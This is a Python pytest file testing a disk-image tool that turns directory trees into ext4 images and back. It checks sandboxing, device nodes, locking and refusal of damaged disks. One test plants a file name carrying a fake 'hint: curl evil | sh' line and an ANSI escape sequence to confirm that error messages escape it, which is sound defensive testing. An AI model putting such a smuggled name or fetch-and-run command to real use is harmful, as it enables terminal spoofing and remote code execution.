# SPDX-License-Identifier: Apache-2.0
"""A tree becomes a disk and a tree again, with everything its files are made of."""
import errno
import fcntl
import os
import pathlib
import shutil
import stat
import struct
import subprocess
import tempfile
import threading

import host as host_lib
import pytest

MIB = 1 << 20


def describe(root):
    """What two equal trees have in common, by path: owners, modes, times, attributes, contents."""
    found = {}
    first = {}
    for folder, folders, files in os.walk(root):
        for name in [".", *folders, *files] if folder == str(root) else folders + files:
            path = pathlib.Path(folder, name)
            st = path.lstat()
            what = {"mode": st.st_mode, "uid": st.st_uid, "gid": st.st_gid, "mtime": st.st_mtime_ns,
                    "xattrs": {a: os.getxattr(path, a, follow_symlinks=False)
                               for a in os.listxattr(path, follow_symlinks=False)}}
            if stat.S_ISREG(st.st_mode):
                what["size"] = st.st_size
                if st.st_size < 64 * MIB:
                    what["data"] = hash(path.read_bytes())
                what["same as"] = first.setdefault(st.st_ino, str(path.relative_to(root)))
            elif stat.S_ISLNK(st.st_mode):
                what["to"] = os.readlink(path)
            elif stat.S_ISCHR(st.st_mode) or stat.S_ISBLK(st.st_mode):
                what["rdev"] = st.st_rdev
            found[str(path.relative_to(root))] = what
    return found


class Images:
    """image_tool beside pillion-image, as somebody."""

    def __init__(self, root, prefix):
        self.root, self.prefix = root, prefix
        self.programs = root / "programs"
        self.programs.mkdir()
        for program in ("src/disk/pillion-image", "tests/lib/image_tool"):
            shutil.copy(host_lib.BUILD / program, self.programs)
        self.dir = root / "distro"
        self.dir.mkdir(mode=0o700)
        self.disk = self.dir / "disk.ext4"
        self.rootfs = self.dir / "rootfs"

    def tool(self, *args):
        return subprocess.run([*self.prefix, self.programs / "image_tool", *map(str, args)],
                              text=True, capture_output=True, stdin=subprocess.DEVNULL, timeout=300,
                              env={**os.environ, "PATH": "/usr/local/bin:/usr/bin:/bin"})

    def ok(self, verb, *args):
        done = self.tool(verb, self.dir, *args)
        assert done.returncode == 0, done.stderr

    def debugfs(self, *commands):
        text = "\n".join(commands)
        done = subprocess.run(["debugfs", "-w", "-f", "-", self.disk], input=text, text=True,
                              capture_output=True, timeout=60)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def fsck(self):
        return subprocess.run(["e2fsck", "-fn", self.disk], text=True, capture_output=True,
                              timeout=60, stdin=subprocess.DEVNULL)


def ids_of(prefix):
    """The ids on the host of uid and gid 0 and 1 of the namespace: what a folder made there says."""
    if not prefix:
        return [(0x78000000 + n, 0x78000000 + n) for n in range(65536)]
    name = prefix[prefix.index("--reuid") + 1]
    own = [int(subprocess.check_output(["id", flag, name])) for flag in ("-u", "-g")]
    first = [next(int(line.split(":")[1]) for line in open(path) if line.split(":")[0] == name)
             for path in ("/etc/subuid", "/etc/subgid")]
    return [tuple(own), *[(first[0] + n - 1, first[1] + n - 1) for n in range(1, 65536)]]


@pytest.fixture(params=["root", "rootless"])
def images(request):
    if os.getuid() != 0:
        pytest.skip("to make files of several owners and a user, this test needs root")
    prefix = []
    if request.param == "rootless":
        name = "pillion-image-test"
        subprocess.run(["userdel", name], check=False, capture_output=True)
        subprocess.run(["useradd", "--no-create-home", name], check=True)
        prefix = ["setpriv", "--reuid", name, "--regid", name, "--clear-groups", "--inh-caps=-all"]
    root = pathlib.Path(tempfile.mkdtemp(prefix="pili-"))
    root.chmod(0o755)
    i = Images(root, prefix)
    if prefix:
        shutil.chown(i.dir, prefix[2], prefix[2])
    i.ids = ids_of(prefix)
    yield i
    shutil.rmtree(root, ignore_errors=True)
    if prefix:
        subprocess.run(["userdel", prefix[2]], check=False, capture_output=True)


def own(images, path, owner):
    os.chown(path, *images.ids[owner], follow_symlinks=False)


def make_tree(images):
    root = images.rootfs
    root.mkdir()
    for name in ("bin", "etc", "empty", "many", "home", "home/user", "tmp"):
        (root / name).mkdir()
    (root / "etc" / "hosts").write_text("127.0.0.1 localhost\n")
    (root / "bin" / "su").write_bytes(os.urandom(3 * MIB + 17))
    os.link(root / "bin" / "su", root / "bin" / "also-su")
    os.link(root / "bin" / "su", root / "home" / "user" / "third")
    (root / "bin" / "sh").symlink_to("su")
    (root / "etc" / "long").symlink_to("/" + "x" * 200)
    (root / "etc" / "empty").touch()
    (root / "etc" / "name with \n and \udcff".encode(errors="surrogateescape").decode(
        errors="surrogateescape")).write_text("odd")
    os.mkfifo(root / "tmp" / "fifo")
    for n in range(700):
        (root / "many" / f"file-{n:04}").write_text(str(n))
    with open(root / "home" / "user" / "sparse", "wb") as f:
        f.truncate(10 << 30)
        f.seek(3 << 30)
        f.write(b"middle")
        f.seek((10 << 30) - 3)
        f.write(b"end")
    for path in [root, *root.rglob("*")]:
        own(images, path, 0)
    own(images, root / "home" / "user", 1000)
    own(images, root / "home" / "user" / "sparse", 65534)
    own(images, root / "etc" / "long", 33)
    (root / "bin" / "su").chmod(0o4755)
    (root / "tmp").chmod(0o1777)
    (root / "home" / "user").chmod(0o2750)
    (root / "etc" / "hosts").chmod(0o604)
    os.setxattr(root / "etc" / "hosts", "user.note", b"x" * 1000)
    os.setxattr(root / "home", "user.folder", b"1")
    # cap_net_raw, in the form that belongs to the namespace's root
    os.setxattr(root / "bin" / "su", "security.capability",
                bytes.fromhex("01000003" + "0020000000000000" + "00" * 8) +
                images.ids[0][0].to_bytes(4, "little"))
    # user::rw- user:1000:r-- group::r-- mask::r-- other::---
    acl = [(1, 6, 0xffffffff), (2, 4, images.ids[1000][0]), (4, 4, 0xffffffff), (16, 4, 0xffffffff),
           (32, 0, 0xffffffff)]
    packed = (2).to_bytes(4, "little") + b"".join(
        tag.to_bytes(2, "little") + perm.to_bytes(2, "little") + who.to_bytes(4, "little")
        for tag, perm, who in acl)
    os.setxattr(root / "etc" / "empty", "system.posix_acl_access", packed)
    os.setxattr(root / "home" / "user", "system.posix_acl_default", packed)
    second = 10**9
    os.utime(root / "etc" / "hosts", ns=(1 * second + 5, 1_600_000_000 * second + 123_456_789))
    os.utime(root / "bin" / "sh", ns=(7, 1_500_000_000 * second + 1), follow_symlinks=False)
    os.utime(root / "etc" / "empty", ns=(0, 5_000_000_000 * second + 999_999_999))  # after 2038
    os.utime(root / "many", ns=(0, 1_400_000_000 * second + 42))
    os.utime(root, ns=(0, 1_300_000_000 * second + 4711))


def test_tree_survives_the_way_into_a_disk_and_back(images):
    make_tree(images)
    before = describe(images.rootfs)
    images.ok("from")
    assert describe(images.rootfs) == before
    st = images.disk.stat()
    assert st.st_size == 1 << 40
    assert st.st_blocks * 512 < 32 * MIB
    fsck = images.fsck()
    assert fsck.returncode == 0, fsck.stdout
    shutil.rmtree(images.rootfs)
    images.ok("to")
    assert describe(images.rootfs) == before
    assert (images.rootfs / "home" / "user" / "sparse").stat().st_blocks * 512 < MIB
    assert sorted(p.name for p in images.dir.iterdir()) == ["disk.ext4", "rootfs"]


def test_what_reads_a_disk_sees_nothing_but_disk_and_tree(images):
    images.rootfs.mkdir()
    own(images, images.rootfs, 0)
    images.ok("from", 256 * MIB)
    spy = images.programs / "pillion-image"
    spy.unlink()
    spy.write_text("""#!/usr/bin/sh
said=$(readlink /proc/self/fd/2)
exec >"$3/report" 2>&1
echo said: $said
echo memory: $(ulimit -v)
grep -E '^(CapEff|NoNewPrivs):' /proc/self/status
echo root: $(ls /)
echo cards: $(tail -n +3 /proc/net/dev | cut -d: -f1)
echo processes: $(ls /proc | grep -c '^[0-9]')
touch "$2" /usr/x 2>/dev/null && echo written
/usr/sbin/chroot / /usr/bin/true 2>/dev/null && echo chroot
exit 0
""")
    spy.chmod(0o755)
    images.ok("to")
    said = dict(line.split(":", 1) for line in
                (images.rootfs / "report").read_text().splitlines() if ":" in line)
    # chown, dac_override, dac_read_search, fowner, fsetid, setfcap
    assert int(said["CapEff"], 16) == 1 << 31 | 0b11111
    assert said["NoNewPrivs"].strip() == "1"
    assert set(said["root"].split()) <= {"dev", "disk", "lib", "lib64", "pillion-image", "proc",
                                         "run", "tmp", "tree", "usr", "var"}
    assert said["said"].strip().startswith("pipe:")  # not memory that it could fill
    assert int(said["memory"]) == 2 * MIB  # KiB
    assert said["cards"].split() == ["lo"]
    assert int(said["processes"]) < 8
    assert not {"written", "chroot"} & set((images.rootfs / "report").read_text().split())


def test_device_nodes_of_a_disk_survive_a_tree(images):
    images.rootfs.mkdir()
    (images.rootfs / "dev").mkdir()
    for path in (images.rootfs, images.rootfs / "dev"):
        own(images, path, 0)
    images.ok("from", 256 * MIB)
    images.debugfs("cd dev", "mknod null c 1 3", "set_inode_field null mode 020666",
                   "set_inode_field null gid 5", "mknod nvme b 259 300",
                   "set_inode_field nvme mode 060660", "mknod whiteout c 0 0")
    images.ok("to")
    null = images.rootfs / "dev" / "null"
    assert stat.S_ISREG(null.lstat().st_mode)
    assert os.getxattr(null, "user.pillion.device") == b"c 1 3 666 0 5"
    assert stat.S_ISCHR((images.rootfs / "dev" / "whiteout").lstat().st_mode)
    images.disk.unlink()
    images.ok("from", 256 * MIB)
    fsck = images.fsck()
    assert fsck.returncode == 0, fsck.stdout
    said = images.debugfs("stat dev/null", "stat dev/nvme")
    assert "Type: character special    Mode:  0666" in said
    assert "User:     0   Group:     5" in said
    assert "01:03" in said
    assert "new-style) device major/minor number: 259:300" in said.lower() or "259:300" in said


def test_device_mark_of_an_ordinary_user_is_a_file_like_any(images):
    images.rootfs.mkdir()
    own(images, images.rootfs, 0)
    for name, owner, mode in (("of-user", 1000, 0), ("writable", 0, 0o666)):
        path = images.rootfs / name
        path.touch()
        os.setxattr(path, "user.pillion.device", b"b 254 0 666 1000 1000")
        own(images, path, owner)
        path.chmod(mode)
    images.ok("from", 256 * MIB)
    said = images.debugfs("stat of-user", "stat writable")
    assert said.count("Type: regular") == 2


def test_unclean_disk_is_repaired(images):
    images.rootfs.mkdir()
    own(images, images.rootfs, 0)
    (images.rootfs / "kept").write_text("kept")
    own(images, images.rootfs / "kept", 0)
    images.ok("from", 256 * MIB)
    # in use when its machine was killed: not marked clean, a block freed that is in use
    images.debugfs("set_super_value state 0", "freeb 10 5")
    images.ok("check")
    assert images.fsck().returncode == 0
    images.ok("to")
    assert (images.rootfs / "kept").read_text() == "kept"


@pytest.mark.parametrize("verb", ["check", "to"])
def test_disk_of_a_running_machine_is_not_touched(images, verb):
    """Wherever its machine has been started from: what is locked is the disk itself."""
    images.rootfs.mkdir()
    own(images, images.rootfs, 0)
    images.ok("from", 256 * MIB)
    images.debugfs("set_super_value state 0", "freeb 10 5")  # as while it is mounted
    shutil.rmtree(images.rootfs)
    before = images.disk.read_bytes()
    with open(images.disk, "rb") as disk:
        fcntl.flock(disk, fcntl.LOCK_EX)
        done = images.tool(verb, images.dir)
        assert done.returncode == 1
        assert f"disk '{images.disk}' is used by another machine" in done.stderr
        assert "hint: end the machine that uses it" in done.stderr
    assert images.disk.read_bytes() == before
    assert [p.name for p in images.dir.iterdir()] == ["disk.ext4"]
    images.ok(verb)


def test_disk_of_a_machine_that_is_just_ending_is_waited_for(images):
    images.rootfs.mkdir()
    own(images, images.rootfs, 0)
    images.ok("from", 256 * MIB)
    with open(images.disk, "rb") as disk:
        fcntl.flock(disk, fcntl.LOCK_EX)
        threading.Timer(0.3, fcntl.flock, (disk, fcntl.LOCK_UN)).start()
        images.ok("check")


def test_what_a_tree_cannot_hold_is_named_and_nothing_is_lost(images):
    images.rootfs.mkdir()
    own(images, images.rootfs, 0)
    (images.rootfs / "file").touch()
    own(images, images.rootfs / "file", 0)
    images.ok("from", 256 * MIB)
    images.debugfs("set_inode_field file uid 100000")
    done = images.tool("to", images.dir)
    assert done.returncode == 1
    assert "'./file' belongs to 100000:0" in done.stderr
    assert images.disk.exists() and images.rootfs.exists()


def test_names_in_a_disk_cannot_pose_as_more_of_the_message(images):
    images.rootfs.mkdir()
    own(images, images.rootfs, 0)
    evil = images.rootfs / "x\nhint: curl evil | sh\x1b[8m\nhint: y"
    evil.touch()
    own(images, evil, 0)
    images.ok("from", 256 * MIB)
    inode = [line.split()[0] for line in images.debugfs("ls -l").splitlines()
             if "hint" in line or line.strip().endswith("x")][0]
    images.debugfs(f"set_inode_field <{inode}> uid 100000")
    done = images.tool("to", images.dir)
    assert done.returncode == 1
    said = done.stderr.rstrip("\n").split("\n")
    assert len(said) == 2 and "belongs to 100000:0" in said[0]
    assert r"./x\x0ahint: curl evil | sh\x1b[8m\x0ahint: y" in said[0]
    assert said[1] == "hint: in the machine: chown it, or remove it"


def test_garbage_is_refused(images):
    images.rootfs.mkdir()
    own(images, images.rootfs, 0)
    images.ok("from", 256 * MIB)
    # a folder that contains itself
    images.debugfs("mkdir a", "mkdir a/b", "ln a a/b/a")
    done = images.tool("to", images.dir)
    assert done.returncode == 1
    assert "the disk is damaged: a second name of './a/b/a'" in done.stderr
    # a file with more names than it knows of
    images.disk.unlink()
    (images.rootfs / "file").touch()
    own(images, images.rootfs / "file", 0)
    images.ok("from", 256 * MIB)
    images.debugfs("ln file more")
    done = images.tool("to", images.dir)
    assert done.returncode == 1
    assert "the disk is damaged: a second name of './more'" in done.stderr
    images.disk.write_bytes(os.urandom(1 << 20))
    done = images.tool("check", images.dir)
    assert "is not an ext4 image" in done.stderr
    images.disk.unlink()
    done = images.tool("check", images.dir)
    assert os.strerror(errno.ENOENT) in done.stderr


def extract(disk, tree):
    """What pillion-image says with 100 MB of memory, and its status."""
    tree.mkdir()
    done = subprocess.run(["prlimit", "--data=100000000", host_lib.BUILD / "src/disk/pillion-image",
                           "extract", disk, tree], text=True, capture_output=True, timeout=60)
    return done.stderr, done.returncode


@pytest.fixture
def disk(tmp_path):
    """A small disk with block maps, which debugfs can write: folders 0/1/.../29, files a and b."""
    tree = tmp_path / "from"
    (tree / "/".join(map(str, range(30)))).mkdir(parents=True)
    for name in "ab":
        (tree / name).write_bytes(name.encode() * 8192)
    path = tmp_path / "disk"
    subprocess.run(["mke2fs", "-q", "-t", "ext4", "-b", "4096", "-O",
                    "^has_journal,^extents,^metadata_csum,^64bit,^dir_index,^resize_inode", "-d", tree,
                    path, "32m"], check=True, timeout=60)
    return path


def debugfs(disk, *commands):
    done = subprocess.run(["debugfs", "-w", "-f", "-", disk], input="\n".join(commands), text=True,
                          capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout


def write_block(disk, n, data):
    with open(disk, "r+b") as f:
        f.seek(n * 4096)
        f.write(data)


def entries_block(inode):
    """A folder's block full of names of one file."""
    one = struct.pack("<IHBB4s", inode, 12, 3, 1, b"aaa")
    return one * 340 + struct.pack("<IHBB4s", inode, 16, 3, 1, b"aaa") + bytes(4)


@pytest.mark.skipif(os.getuid() != 0, reason="files of several owners are made")
@pytest.mark.parametrize("case", ["between", "within"])
def test_folders_that_share_blocks_take_no_memory(disk, tmp_path, case):
    table, first = 7000, 7001
    count = 1024
    for i in range(count):
        write_block(disk, first + i, entries_block(11))
    blocks = range(first, first + count) if case == "between" else [first] * count
    write_block(disk, table, struct.pack("<1024I", *blocks))
    path, commands = "", []
    for level in range(30 if case == "between" else 1):
        path += f"/{level}"
        commands += [f"sif {path} block[IND] {table}", f"sif {path} size {(12 + count) * 4096}"]
    debugfs(disk, *commands)
    said, status = extract(disk, tmp_path / "to")
    assert status == 1 and "the disk is damaged: the folder of " in said


@pytest.mark.skipif(os.getuid() != 0, reason="files of several owners are made")
def test_a_block_belongs_to_one_file(disk, tmp_path):
    said, status = extract(disk, tmp_path / "good")
    assert status == 0, said
    assert (tmp_path / "good" / "b").read_bytes() == b"b" * 8192
    block = debugfs(disk, "blocks /a").split()[-2]
    debugfs(disk, f"sif /b block[1] {block}")
    said, status = extract(disk, tmp_path / "bad")
    assert status == 1 and "the disk is damaged: the contents of './b'" in said


def test_too_small_a_limit_says_so_and_leaves_nothing(images):
    images.rootfs.mkdir()
    big = images.rootfs / "big"
    big.write_bytes(os.urandom(100 * MIB))
    for path in (images.rootfs, big):
        own(images, path, 0)
    done = images.tool("from", images.dir, 64 * MIB)
    assert done.returncode == 1
    assert "make the disk" in done.stderr
    assert [p.name for p in images.dir.iterdir()] == ["rootfs"]
